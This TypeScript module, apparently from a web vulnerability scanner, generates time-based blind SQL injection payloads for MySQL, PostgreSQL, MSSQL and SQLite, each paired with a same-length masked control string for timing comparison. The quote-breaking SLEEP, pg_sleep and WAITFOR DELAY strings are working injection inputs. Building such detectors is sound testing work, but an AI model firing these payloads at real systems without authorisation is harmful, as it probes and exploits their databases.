/** How one database is told to wait, out of a text in quotes. All texts of a dialect are of the same length. */
export interface Dialect {
  write(word: string, ms: number): string;
  /** The same without the function's name. */
  benign(word: string, ms: number): string;
}

/** In a subquery that depends on no row: it waits once, however many rows there are, and the condition never holds. */
function dialect(name: RegExp, sql: (ms: number) => string): Dialect {
  return {
    write: (word, ms) => `${word}${sql(ms)}`,
    benign: (word, ms) =>
      `${word}${sql(ms)
        .replace(name, (found) => 'x'.repeat(found.length))
        .replaceAll("'", 'x')}`,
  };
}

function seconds(ms: number): string {
  return (ms / 1_000).toFixed(3);
}

/** The most common first. The last is an SQLite to which the application has added `sleep(ms)`. */
export const dialects: readonly Dialect[] = [
  dialect(/SLEEP/, (ms) => `' OR (SELECT 7 FROM (SELECT SLEEP(${seconds(ms)}))x)=8 OR '1'='2`),
  dialect(/pg_sleep/, (ms) => `' OR (SELECT 7 FROM pg_sleep(${seconds(ms)}))=8 OR '1'='2`),
  dialect(/WAITFOR DELAY/, (ms) => `'; WAITFOR DELAY '0:0:${seconds(ms)}'; SELECT '1`),
  dialect(/sleep/, (ms) => `' OR (SELECT sleep(${String(ms).padStart(4, '0')}))=-8 OR '1'='2`),
];
